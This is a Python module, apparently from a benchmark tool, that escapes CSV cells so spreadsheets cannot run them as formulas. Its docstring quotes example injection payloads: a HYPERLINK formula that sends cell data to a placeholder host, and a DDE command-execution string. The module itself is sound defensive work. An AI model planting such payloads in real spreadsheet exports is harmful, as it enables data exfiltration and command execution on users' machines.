"""CSV cells that a spreadsheet cannot run: the one place every CSV migbench writes goes through.

Model output, ground truth and file names all reach CSV files, and a cell such as
`=HYPERLINK("http://x/?"&A1)` or `-2+3+cmd|' /C calc'!A0` is run as a formula when the file is
opened in Excel, LibreOffice or Google Sheets (CSV/formula injection, CWE-1236). Following
OWASP's CSV Injection guidance (https://owasp.org/www-community/attacks/CSV_Injection) and ASVS
5.0 requirement 1.2.10, a cell whose first character is `=`, `+`, `-`, `@`, tab, carriage return
or NUL, also after leading spaces or quotes (spreadsheets skip those before reading a formula),
or their full-width forms, is prefixed with a single quote, which spreadsheets read as
"this is text". The csv module quotes any cell holding a delimiter, a quote or a line break and
doubles embedded quotes (RFC 4180, as ASVS asks), so a cell cannot break out of its column.

Pure numbers are left as they are by default: `-12.50` or `+61` cannot be a formula (a
spreadsheet reads them as the number), and negative amounts are real data that the incumbent's
tooling must read back unchanged. `keep_numbers=False` prefixes them too, as OWASP's strictest
reading asks. `restore_cell` undoes the prefix exactly, so migbench reads back what it wrote.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

# first characters a spreadsheet may treat as the start of a formula (ASCII and full-width forms)
TRIGGERS = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
# skipped by spreadsheets before they look for a formula sign
_LEAD = re.compile(r"[ \"'\u00a0\u3000]*")
# a plain number: sign, optional currency sign, digits (thousands commas allowed), decimals, exponent
_NUMBER = re.compile(r"[+-]?\$?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?(?:[eE][+-]?\d+)?")


def needs_prefix(value: str, *, keep_numbers: bool = True) -> bool:
    if not value:
        return False
    if value[0] in "\t\r\0":
        return True
    first = _LEAD.match(value).end()
    if first == len(value) or value[first] not in TRIGGERS:
        return False
    return not (keep_numbers and _NUMBER.fullmatch(value) is not None)


def safe_cell(value: Any, *, keep_numbers: bool = True) -> Any:
    """The cell to write: text that could run as a formula gets a leading single quote.
    Non-strings (numbers, None) pass through; the csv module writes them as numbers or empty."""
    if isinstance(value, str) and needs_prefix(value, keep_numbers=keep_numbers):
        return "'" + value
    return value


def restore_cell(value: str, *, keep_numbers: bool = True) -> str:
    """The value `safe_cell` was given, from what it wrote (exact for every string)."""
    if value.startswith("'") and needs_prefix(value[1:], keep_numbers=keep_numbers):
        return value[1:]
    return value


def safe_row(row: Iterable[Any], *, keep_numbers: bool = True) -> list[Any]:
    return [safe_cell(v, keep_numbers=keep_numbers) for v in row]


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, fh: IO[str], *, keep_numbers: bool = True, **fmt: Any):
        self._w = csv.writer(fh, **fmt)
        self.keep_numbers = keep_numbers

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row, keep_numbers=self.keep_numbers))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """csv.DictWriter's interface (header, rows as dicts) with every cell neutralised."""

    def __init__(self, fh: IO[str], fieldnames: list[str], *, restval: Any = "", keep_numbers: bool = True,
                 **fmt: Any):
        self.fieldnames = list(fieldnames)
        self.restval = restval
        self._w = SafeWriter(fh, keep_numbers=keep_numbers, **fmt)

    def writeheader(self) -> Any:
        return self._w.writerow(self.fieldnames)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        extra = [k for k in rowdict if k not in self.fieldnames]
        if extra:
            raise ValueError(f"dict contains fields not in fieldnames: {extra}")
        return self._w.writerow([rowdict.get(k, self.restval) for k in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
